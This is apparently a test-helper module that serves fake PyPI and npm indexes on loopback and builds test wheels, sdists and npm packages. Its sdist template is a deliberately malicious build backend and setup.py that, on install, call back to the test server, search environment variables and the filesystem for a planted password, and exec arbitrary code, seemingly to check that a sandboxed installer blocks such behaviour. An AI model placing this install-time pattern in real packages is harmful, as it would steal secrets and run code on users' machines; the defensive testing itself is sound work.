"""Package indexes on loopback that serve what a test puts there, and packages made to do harm."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import os
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import unquote, urlsplit


class Index:
    """Pages and files of one server; ``asked`` holds the paths that were requested."""

    def __init__(self, login: str | None = None) -> None:
        self.files: dict[str, bytes] = {}
        self.asked: list[str] = []
        self.login = login
        self.wrong: set[str] = set()
        self.pages: dict[str, str] = {}  # what a package's page says, if not its files
        self.redirects: dict[str, str] = {}  # by path
        self.url = ""

    @property
    def ran(self) -> list[str]:
        """What code of packages asked for, that should not have run or not have got here."""
        return [path for path in self.asked if path.startswith("/ran")]

    def add(self, filename: str, data: bytes) -> None:
        self.files[filename] = data

    def answer(self, path: str) -> tuple[str, bytes] | None:
        parts = unquote(urlsplit(path).path).strip("/").split("/")
        if parts[0] == "files":
            found = self.files.get(parts[-1])
            return None if found is None else ("application/octet-stream", found)
        if parts[0] == "simple" and parts[-1] in self.pages:
            return "text/html", f"<!DOCTYPE html>{self.pages[parts[-1]]}".encode()
        if parts[0] == "simple" and len(parts) == 2:
            names = [n for n in self.files if n.split("-")[0].replace("_", "-") == parts[1]]
            links = "".join(f'<a href="/files/{n}#sha256={self.hash(n)}">{n}</a>\n' for n in names)
            return (
                ("text/html", f"<!DOCTYPE html><html><body>{links}</body></html>".encode())
                if names
                else None
            )
        name = "/".join(parts)
        return ("application/json", self.files[name]) if name in self.files else None

    def hash(self, filename: str) -> str:
        data = self.files[filename] + (b"?" if filename in self.wrong else b"")
        return hashlib.sha256(data).hexdigest()


@contextmanager
def serving(index: Index) -> Iterator[Index]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            index.asked.append(self.path)
            wanted = index.login
            given = self.headers.get("Authorization", "")
            if wanted and given not in (basic(wanted), f"Bearer {wanted}"):
                self.send_response(401)
                self.send_header("WWW-Authenticate", "Basic")
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            if self.path in index.redirects:
                self.send_response(302)
                self.send_header("Location", index.redirects[self.path])
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            found = index.answer(self.path)
            kind, body = found or ("text/plain", b"")
            self.send_response(200 if found else 404)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_HEAD = do_POST = do_GET  # noqa: N815 - as http.server calls them

        def log_message(self, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        index.url = f"http://127.0.0.1:{server.server_port}"
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield index
        server.shutdown()
        thread.join()


def basic(login: str) -> str:
    return "Basic " + base64.b64encode(login.encode()).decode()


def wheel(
    name: str,
    files: dict[str, str],
    requires: tuple[str, ...] = (),
    version: str = "1.0",
    entry_points: str = "",
) -> tuple[str, bytes]:
    """The filename and the bytes of a wheel; ``{info}`` and ``{data}`` in names are replaced."""
    info, data = f"{name}-{version}.dist-info", f"{name}-{version}.data"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
    metadata += "".join(f"Requires-Dist: {one}\n" for one in requires)
    texts = {path.format(info=info, data=data): text for path, text in files.items()}
    texts |= {
        f"{info}/METADATA": metadata,
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    if entry_points:
        texts[f"{info}/entry_points.txt"] = entry_points
    rows = []
    for path, text in texts.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=")
        rows.append(f"{path},sha256={digest.decode()},{len(text.encode())}")
    texts[f"{info}/RECORD"] = "\n".join([*rows, f"{info}/RECORD,,", ""])
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for path, text in texts.items():
            archive.writestr(path, text)
    return f"{name}-{version}-py3-none-any.whl", packed.getvalue()


BACKEND = """
import os, socket, sys, urllib.request, zipfile
CODE = {code!r}
WORD = "".join(["hunter", str(2)])  # this file itself must not hold it
def act():
    seen = {{}}
    try:
        urllib.request.urlopen({url!r} + "/ran", timeout=2)
        seen["network"] = True
    except OSError:
        seen["network"] = False
    everything = "\\n".join(f"{{k}}={{v}}" for k, v in os.environ.items()) + repr(sys.argv)
    seen["password"] = WORD in everything
    for folder, _, files in os.walk("/"):
        if folder.startswith(("/proc", "/sys", "/usr", "/dev", sys.base_prefix, "/mnt/wardian")):
            continue
        for name in files:
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    seen["password"] = seen["password"] or WORD.encode() in file.read(1 << 16)
            except OSError:
                pass
    space = {{"seen": seen}}
    exec(CODE, space)
    return "SEEN = " + repr(seen)
def build_wheel(folder, config_settings=None, metadata_directory=None):
    name, info = "{name}-1.0-py3-none-any.whl", "{name}-1.0.dist-info"
    files = {{
        "{name}.py": act(),
        info + "/METADATA": "Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n",
        info + "/WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    }}
    files.update({more!r})
    files[info + "/RECORD"] = "".join(path + ",,\\n" for path in [*files, info + "/RECORD"])
    with zipfile.ZipFile(os.path.join(folder, name), "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return name
if __name__ != "backend":
    act()
"""


def sdist(
    name: str, url: str, *, code: str = "", more: dict[str, str] | None = None, requires: str = "[]"
) -> tuple[str, bytes]:
    """A source archive whose build and whose setup.py look around, phone home and run ``code``."""
    acting = BACKEND.format(name=name, url=url, code=code, more=more or {})
    project = f'[build-system]\nrequires = {requires}\nbuild-backend = "backend"\n'
    project += f'backend-path = ["."]\n[project]\nname = "{name}"\nversion = "1.0"\n'
    files = {
        "pyproject.toml": project,
        "backend.py": acting,
        "setup.py": acting,
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
    }
    return f"{name}-1.0.tar.gz", tarball({f"{name}-1.0/{p}": text for p, text in files.items()})


def tarball(files: dict[str, str]) -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        for path, text in files.items():
            member = tarfile.TarInfo(path)
            member.size, member.mode = len(text.encode()), 0o644
            archive.addfile(member, io.BytesIO(text.encode()))
    return packed.getvalue()


def publish(
    index: Index, name: str, files: dict[str, str] | None = None, **manifest: object
) -> None:
    """Put an npm package into a registry."""
    about = {"name": name, "version": "1.0.0", "main": "index.js", **manifest}
    texts = {"index.js": f"module.exports = () => '{name}'", **(files or {})}
    texts["package.json"] = json.dumps(about)
    data = tarball({f"package/{path}": text for path, text in texts.items()})
    index.add(f"{name}.tgz", data)
    digest = base64.b64encode(hashlib.sha512(data).digest()).decode()
    dist = {"tarball": f"{index.url}/files/{name}.tgz", "integrity": f"sha512-{digest}"}
    served = {**about, "dist": dist}
    if "install" in dict(manifest.get("scripts") or {}):  # type: ignore[call-overload]
        served["hasInstallScript"] = True
    document = {"name": name, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": served}}
    index.add(name, json.dumps(document).encode())


def without(program: str) -> str:
    """The PATH, less the directories that hold a program."""
    entries = os.environ["PATH"].split(os.pathsep)
    return os.pathsep.join(e for e in entries if not os.path.exists(os.path.join(e, program)))
